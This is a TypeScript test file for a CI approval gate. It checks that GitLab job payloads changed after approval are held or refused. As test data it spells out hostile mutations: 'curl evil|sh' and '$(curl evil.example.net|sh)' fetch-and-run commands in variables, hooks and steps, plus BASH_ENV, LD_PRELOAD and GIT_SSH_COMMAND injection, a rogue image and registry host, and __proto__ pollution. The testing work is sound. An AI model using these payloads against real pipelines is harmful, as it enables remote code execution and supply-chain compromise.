/** Somebody who may push and start pipelines but not approve changes what an approved job does: each change waits, or is refused. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fixture } from '../support/gate.ts';
import { openScene, type Scene } from '../support/scene.ts';
import type { ScriptedRunner } from '../support/scripted-runner.ts';

// biome-ignore lint/suspicious/noExplicitAny: a hostile payload is changed in ways that no type foresees
type Payload = Record<string, any>;
type Change = (payload: Payload) => void;

const zoe = { id: 9, username: 'zoe', name: 'Zoë Müller' };
/** As GitLab sends what a person typed or a dotenv file brought: neither public nor masked. */
const typed =
  (key: string, value: string, flags: object = {}): Change =>
  (p) =>
    p.variables.push({ key, value, public: false, masked: false, ...flags });
const flagged =
  (key: string, flags: object): Change =>
  (p) =>
    Object.assign(
      p.variables.find((one: { key: string }) => one.key === key),
      flags,
    );
const rewritten =
  (key: string, value: string): Change =>
  (p) => {
    p.variables.find((one: { key: string }) => one.key === key).value = value;
  };
const twins =
  (from: string, to: string) =>
  ({ text }: { text: string }): string =>
    text.replace(from, to);

const HELD: readonly [title: string, change: Change][] = [
  ['T37 a variable typed at the start of the pipeline', typed('DEPLOY_HOST', 'evil.example.net')],
  ['T37 a variable typed under a name of GitLab’s own', typed('CI_PIPELINE_ID', '$(curl evil.example.net|sh)')],
  ['T37 the same, brought by a dotenv file under a name in other case', typed('ci_job_id', '1; curl evil|sh')],
  ['T37 a typed copy of a value that changes nothing yet', typed('CI_COMMIT_SHA', '0'.repeat(40))],
  ['T37 a predefined name with a command as its value', rewritten('CI_PIPELINE_ID', '$(id)')],
  ['T9 a commit title that runs in a shell', typed('CI_COMMIT_TITLE', '$(id)')],
  ['T7 BASH_ENV', typed('BASH_ENV', '/builds/acme/web/evil.sh')],
  ['T7 LD_PRELOAD as a file', typed('LD_PRELOAD', 'x', { file: true })],
  ['T7 GIT_SSH_COMMAND', typed('GIT_SSH_COMMAND', 'sh -c "curl evil|sh"')],
  ['T7 a switch of the runner', typed('FF_USE_NEW_BASH_EVAL_STRATEGY', 'true')],
  ['T46 the debug trace', typed('CI_DEBUG_TRACE', 'true')],
  ['T7 another PATH, declared public', typed('PATH', '/tmp/evil:/usr/bin', { public: true })],
  ['T8 an ignored variable that becomes a file', flagged('CI_COMMIT_SHA', { file: true })],
  ['T8 an ignored variable that is no longer public', flagged('CI_PIPELINE_IID', { public: false })],
  ['T8 a member that nobody knows on an ignored variable', flagged('CI_JOB_ID', { expand: 'always' })],
  [
    'T38 other inputs on a retry',
    (p) => {
      p.inputs[0].value.content = '1/4 || curl evil|sh';
    },
  ],
  [
    'T38 steps in run',
    (p) => {
      p.run = '[{"name":"x","script":"curl evil|sh"}]';
    },
  ],
  [
    'T1 another image',
    (p) => {
      p.image.name = 'evil.example.net/node:24';
    },
  ],
  [
    'T1 an entrypoint',
    (p) => {
      p.image.entrypoint = ['sh', '-c', 'id'];
    },
  ],
  [
    'T1 a command of a service',
    (p) => {
      p.services[0].command = ['sh', '-c', 'id'];
    },
  ],
  [
    'T1 a variable of a service',
    (p) => {
      p.services[0].variables.push({ key: 'POSTGRES_INITDB_ARGS', value: '-c x', public: true, masked: false });
    },
  ],
  [
    'T1 a hook before the sources',
    (p) => {
      p.hooks[0].script.push('curl evil|sh');
    },
  ],
  [
    'T1 a line behind the script',
    (p) => {
      p.steps.push({ ...p.steps[0], name: 'after_script', script: ['curl evil|sh'] });
    },
  ],
  [
    'T8 another repository',
    (p) => {
      p.git_info.repo_url = p.git_info.repo_url.replace('gitlab.example.com', 'evil.example.net');
    },
  ],
  [
    'T48 the cache of protected branches',
    (p) => {
      p.cache[0].key = 'npm-1-protected';
    },
  ],
  [
    'T48 artifacts of another job',
    (p) => {
      p.dependencies = [{ id: 1, name: 'evil', token: p.token, artifacts_file: { filename: 'a.zip', size: 1 } }];
    },
  ],
  [
    'T1 a registry with credentials',
    (p) => {
      p.credentials.push({ type: 'registry', url: 'evil.example.net', username: 'u', password: 'p' });
    },
  ],
  [
    'T6 a field that no runner knows yet',
    (p) => {
      p.steps[0].sandbox = { escape: true };
    },
  ],
  [
    'T45 a member called __proto__',
    (p) => {
      Object.defineProperty(p.image, '__proto__', { value: { evil: 1 }, enumerable: true });
    },
  ],
  ['T50 what only looks like an id token', typed('ID_TOKEN', 'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.$(curl evil|sh)')],
  [
    'T10 another job of the project',
    (p) => {
      p.job_info.name = 'deploy';
    },
  ],
  [
    'T51 another branch with the same configuration',
    (p) => {
      p.git_info.ref = 'feature/evil';
      p.git_info.refspecs = p.git_info.refspecs.map((each: string) => each.replaceAll('feature/login', 'feature/evil'));
      for (const one of p.variables)
        if (/^CI_(COMMIT_(BRANCH|REF_NAME|REF_SLUG)|CONFIG_REF_URI)$/.test(one.key))
          one.value = one.value.replace('feature/login', 'feature/evil').replace('feature-login', 'feature-evil');
    },
  ],
  [
    'T11 a tag of the same name',
    (p) => {
      p.git_info.ref_type = 'tag';
      p.git_info.refspecs = ['+refs/tags/feature/login:refs/tags/feature/login'];
    },
  ],
  [
    'T11 the branch, protected now',
    (p) => {
      p.git_info.protected = true;
    },
  ],
];

const REFUSED: readonly [title: string, render: (job: { text: string }) => string][] = [
  ['T53 steps a second time in other case', twins('"steps":', '"Steps":[{"name":"script","script":["id"]}],"steps":')],
  ['T53 a long s in a name', twins('"image":', '"ſteps":[],"image":')],
  ['T2 a name twice', twins('"allow_git_fetch":', '"allow_git_fetch":false,"allow_git_fetch":')],
  ['T2 a template that is not ours', twins('"policy_options":null', '"policy_options":{"x":[{"hmac":"x"}]}')],
  ['T3 a script that is text', twins('"script":["npm ci', '"script":"x","other":["npm ci')],
  ['T53 another document behind the first', ({ text }) => `${text}{"id":1}`],
  ['T2 a byte order mark', ({ text }) => `\ufeff${text}`],
];

let scene: Scene;
let runner: ScriptedRunner;
const start = (options: object = {}): number =>
  scene.gitlab.enqueue(fixture('test-unit.run1'), { runner: scene.protectedToken, user: zoe, ...options });
const ended = (id: number, status: string): Promise<unknown> =>
  scene.gitlab.until(`job ${id} ${status}`, () => scene.gitlab.job(id).status === status);

beforeAll(async () => {
  scene = await openScene();
  runner = scene.runner();
  const first = start();
  await scene.approve(first, { lifetime: 'standing' });
  await ended(first, 'success');
});
afterAll(() => scene.close());

describe('a job that was approved, changed by somebody who may push', () => {
  it.each(HELD)('%s: waits, and nothing of it starts', async (_, mutate) => {
    const before = runner.started.length;
    const job = start({ mutate });
    await scene.hold(job, 'waiting_for_approval');
    expect(runner.started.slice(before)).toEqual([]);
  });

  it.each(REFUSED)('%s: has no digest, is failed, and nothing of it starts', async (_, render) => {
    const before = runner.started.length;
    const job = start({ render });
    await ended(job, 'failed');
    expect(scene.gitlab.job(job).trace).toContain('Holdpoint: this job was refused');
    expect(runner.started.slice(before)).toEqual([]);
  });

  it('T10 another project with the same configuration is another question', async () => {
    const before = runner.started.length;
    const payload = JSON.parse(fixture('test-unit.run1')) as Payload;
    payload.job_info.project_id = 4242;
    const job = scene.gitlab.enqueue(payload, { runner: scene.protectedToken, user: zoe });
    expect((await scene.hold(job, 'waiting_for_approval')).project_id).toBe(4242);
    expect(runner.started.slice(before)).toEqual([]);
  });

  it('T10 T17 a payload that names another project than GitLab has the job in is failed', async () => {
    const before = runner.started.length;
    const job = start({
      mutate: (p: Payload) => {
        p.job_info.project_id = 4242;
      },
    });
    await ended(job, 'failed');
    expect(scene.gitlab.job(job).trace).toContain('it says that it is of project 4242');
    expect(runner.started.slice(before)).toEqual([]);
  });

  it('T10 the same job in an environment is another question', async () => {
    const before = runner.started.length;
    const environment = { name: 'production', slug: 'production', tier: 'production' };
    const job = start({
      environment,
      mutate: (p: Payload) => {
        for (const [part, value] of Object.entries(environment))
          p.variables.push({ key: `CI_ENVIRONMENT_${part.toUpperCase()}`, value, public: true, masked: false });
      },
    });
    expect((await scene.hold(job, 'waiting_for_approval')).environment).toBe('production');
    expect(runner.started.slice(before)).toEqual([]);
  });

  it('T14 comes through unchanged, by a push, a retry, a schedule and another person: the gate knows them by nothing else', async () => {
    const before = runner.started.length;
    const jobs = [start(), start({ user: { id: 12, username: 'alice', name: 'Alice Okafor' } })];
    for (const job of jobs) await ended(job, 'success');
    const retried = scene.gitlab.retry(jobs[0]!, zoe);
    await ended(retried, 'success');
    expect(runner.started.slice(before).map(({ jobId }) => jobId)).toEqual([...jobs, retried]);
  });
});
